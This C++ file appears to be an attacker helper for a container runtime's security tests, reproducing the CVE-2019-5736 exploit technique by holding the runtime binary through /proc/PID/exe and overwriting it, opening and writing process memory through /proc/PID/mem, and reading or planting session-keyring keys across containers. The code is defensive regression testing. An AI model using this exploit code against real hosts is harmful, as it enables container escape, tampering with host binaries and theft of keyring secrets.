// SPDX-License-Identifier: Apache-2.0
// The attacker of tests/attack/exe_attack_test.cpp: a static program copied
// into a container's rootfs, that goes after the runtime's binary, memory and
// descriptors through /proc (CVE-2019-5736, CVE-2016-9962). It reports what
// it achieved on stdout / in a result file; the test decides.
//
//   exe_attacker watch DEV INO SECONDS RESULT   hold /proc/PID/exe of any
//       process whose exe is DEV:INO (the runtime's binary), then reopen it
//       for writing (/proc/self/fd/N) and write, until SECONDS pass
//   exe_attacker probe PID RESULT DEV INO SECONDS   open /proc/PID/{exe,mem,fd/*};
//       write what opened to RESULT.1, then as watch on that exe fd
//   exe_attacker keyring DESC   search the session keyring for the "user" key
//       DESC and read it (tests/attack/keyring_attack_test.cpp)
//   exe_attacker keyring-join NAME DESC PAYLOAD SECONDS   join the session
//       keyring NAME (unless "-") and open it to all; add DESC=PAYLOAD
//       unless ""; wait; then as keyring DESC
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

double now() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

void put(const std::string& path, const std::string& text) {
  std::string tmp = path + ".tmp";
  FILE* f = std::fopen(tmp.c_str(), "w");
  if (f == nullptr) return;
  std::fputs(text.c_str(), f);
  std::fclose(f);
  std::rename(tmp.c_str(), path.c_str());
}

bool is_target(int fd, dev_t dev, ino_t ino) {
  struct stat st {};
  return fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
}

// Reopen every held exe for writing and write: the binary is free once no
// process executes it any more (ETXTBSY before).
std::string write_held(std::vector<int>& held, double until) {
  std::string log;
  while (!held.empty() && now() < until) {
    for (auto it = held.begin(); it != held.end();) {
      std::string p = "/proc/self/fd/" + std::to_string(*it);
      int w = open(p.c_str(), O_WRONLY);
      if (w < 0 && errno == ETXTBSY) {
        ++it;
        continue;
      }
      if (w < 0) {
        log += "reopen-failed errno=" + std::to_string(errno) + "\n";
      } else {
        ssize_t n = pwrite(w, "PWNED", 5, 0);
        log +=
            n == 5 ? std::string("WROTE\n") : "write-failed errno=" + std::to_string(errno) + "\n";
        close(w);
      }
      close(*it);
      it = held.erase(it);
    }
    usleep(2000);
  }
  if (!held.empty()) log += "still-busy\n";
  return log;
}

// Opens every /proc/PID/fd/N of the process `base`: each that opens is one of
// its descriptors in the attacker's hands.
std::string open_fds(const std::string& base) {
  DIR* fds = opendir((base + "/fd").c_str());
  if (fds == nullptr) return "fd-dir errno=" + std::to_string(errno) + "\n";
  std::string log;
  while (dirent* f = readdir(fds)) {
    if (f->d_name[0] == '.') continue;
    int x = open((base + "/fd/" + f->d_name).c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (x >= 0) {
      log += "FD-OPEN " + std::string(f->d_name) + "\n";
      close(x);
    }
  }
  closedir(fds);
  return log;
}

int watch(dev_t dev, ino_t ino, double seconds, const std::string& result) {
  double until = now() + seconds;
  std::vector<int> held;
  std::string log;
  int self = getpid();
  while (now() < until && held.empty()) {
    DIR* d = opendir("/proc");
    if (d == nullptr) return 2;
    while (dirent* e = readdir(d)) {
      int pid = std::atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      std::string base = "/proc/" + std::string(e->d_name);
      int fd = open((base + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (!is_target(fd, dev, ino)) {
        close(fd);
        continue;
      }
      held.push_back(fd);
      log += "HELD pid=" + std::string(e->d_name) + "\n";
      // The same access gives its memory and descriptors.
      int mem = open((base + "/mem").c_str(), O_RDWR | O_CLOEXEC);
      if (mem >= 0) {
        log += "MEM-OPEN\n";
        close(mem);
      }
      log += open_fds(base);
    }
    closedir(d);
  }
  if (held.empty()) log += "nothing-held\n";
  log += write_held(held, until);
  put(result, log);
  return 0;
}

// One byte of a writable mapping, read and written back unchanged: proves
// write access to the process's memory without changing it.
std::string poke_mem(const std::string& base) {
  int mem = open((base + "/mem").c_str(), O_RDWR | O_CLOEXEC);
  if (mem < 0) return "mem-open errno=" + std::to_string(errno) + "\n";
  std::string log = "MEM-OPEN\n";
  FILE* maps = std::fopen((base + "/maps").c_str(), "r");
  char line[512];
  unsigned long lo = 0, hi = 0;
  char perms[8] = {};
  while (maps != nullptr && std::fgets(line, sizeof line, maps) != nullptr) {
    if (std::sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[1] == 'w') break;
    lo = 0;
  }
  if (maps != nullptr) std::fclose(maps);
  char b = 0;
  if (lo != 0 && pread(mem, &b, 1, static_cast<off_t>(lo)) == 1 &&
      pwrite(mem, &b, 1, static_cast<off_t>(lo)) == 1)
    log += "MEM-WRITTEN\n";
  close(mem);
  return log;
}

int probe(const std::string& pid, const std::string& result, dev_t dev, ino_t ino, double seconds) {
  std::string base = "/proc/" + pid, log;
  std::vector<int> held;
  int exe = open((base + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
  if (exe < 0) {
    log += "exe-open errno=" + std::to_string(errno) + "\n";
  } else {
    log += is_target(exe, dev, ino) ? "HELD\n" : "exe-other\n";
    held.push_back(exe);
  }
  log += poke_mem(base);
  log += open_fds(base);
  put(result + ".1", log);
  put(result, log + write_held(held, now() + seconds));
  return 0;
}

}  // namespace

// Looks for a "user" key described DESC through the session keyring (what a
// process possesses: keyrings(7)) and reads it: "KEY-READ <payload>", or
// "NO-KEY errno=N" (keyrings(7): KEYCTL_SEARCH, KEYCTL_READ).
int keyring(const char* desc) {
  constexpr long kSearch = 10, kRead = 11, kSession = -3;
  long id = syscall(SYS_keyctl, kSearch, kSession, "user", desc, 0L);
  if (id < 0) {
    std::printf("NO-KEY errno=%d\n", errno);
    return 0;
  }
  char buf[256] = {};
  long n = syscall(SYS_keyctl, kRead, id, buf, sizeof buf - 1);
  if (n < 0) {
    std::printf("KEY-FOUND-NOT-READ errno=%d\n", errno);
    return 0;
  }
  std::printf("KEY-READ %s\n", buf);
  return 0;
}

// Another container's keyring: join the session keyring NAME (an existing
// one if it may be searched, else a new one of that name), open it to
// everyone (as a planted keyring would be), optionally add the "user" key
// DESC=PAYLOAD to it, wait SECONDS, then look for DESC as `keyring` does.
int keyring_join(const char* name, const char* desc, const char* payload, double seconds) {
  constexpr long kJoin = 1, kSetperm = 5, kSession = -3;
  if (std::strcmp(name, "-") != 0) {  // "-": stay in the session keyring we have
    long id = syscall(SYS_keyctl, kJoin, name);
    if (id >= 0) syscall(SYS_keyctl, kSetperm, id, 0x3f3f3f3fL);
  }
  if (*payload != '\0') syscall(SYS_add_key, "user", desc, payload, std::strlen(payload), kSession);
  double until = now() + seconds;
  while (now() < until) usleep(20000);
  return keyring(desc);
}

int main(int argc, char** argv) {
  if (argc == 3 && std::strcmp(argv[1], "keyring") == 0) return keyring(argv[2]);
  if (argc == 6 && std::strcmp(argv[1], "keyring-join") == 0)
    return keyring_join(argv[2], argv[3], argv[4], std::atof(argv[5]));
  if (argc == 6 && std::strcmp(argv[1], "watch") == 0)
    return watch(std::strtoull(argv[2], nullptr, 10), std::strtoull(argv[3], nullptr, 10),
                 std::atof(argv[4]), argv[5]);
  if (argc == 7 && std::strcmp(argv[1], "probe") == 0)
    return probe(argv[2], argv[3], std::strtoull(argv[4], nullptr, 10),
                 std::strtoull(argv[5], nullptr, 10), std::atof(argv[6]));
  std::fputs(
      "usage: exe_attacker watch DEV INO SECONDS RESULT | probe PID RESULT DEV INO SECONDS | "
      "keyring DESC | keyring-join NAME DESC PAYLOAD SECONDS\n",
      stderr);
  return 2;
}
